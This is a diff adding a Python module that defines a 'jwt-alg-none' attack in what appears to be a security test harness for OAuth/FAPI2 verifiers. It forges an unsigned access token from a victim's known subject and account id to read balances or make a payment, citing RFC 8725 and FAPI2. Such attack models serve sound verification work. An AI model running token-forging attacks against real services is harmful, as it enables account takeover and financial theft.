@@ -1,0 +1,28 @@
+"""jwt-alg-none: an unsigned access token (alg none) for the victim.
+
+The A1 attacker writes the claims itself and signs nothing; a verifier that lets the
+token's header pick the algorithm accepts it (RFC 8725 §2.1, §3.1; FAPI2 §5.4.1).
+"""
+
+from __future__ import annotations
+
+from attacker.context import AttackContext
+from attacker.forge import sign_none, spend_forged, victim_facts
+from attacker.model import Attack
+from attacker.premises import linked_victim
+
+PREMISE = ("Knows the victim's sub (a captured ID token, token leg) and an account id (a "
+           "captured resource URL, resource leg); no key of the AS.")
+
+
+def run(ctx: AttackContext) -> None:
+    linked_victim(ctx)
+    facts = victim_facts(ctx)
+    spend_forged(ctx, facts, sign_none, {})
+
+
+ATTACK = Attack(
+    id="jwt-alg-none", attacker="A1", legs=("token", "resource"), victim="prior",
+    premise=PREMISE, goal="the victim's balances or a payment to mallory", run=run,
+    refs=("RFC 8725 §2.1, §3.1", "FAPI2 §5.4.1"),
+)
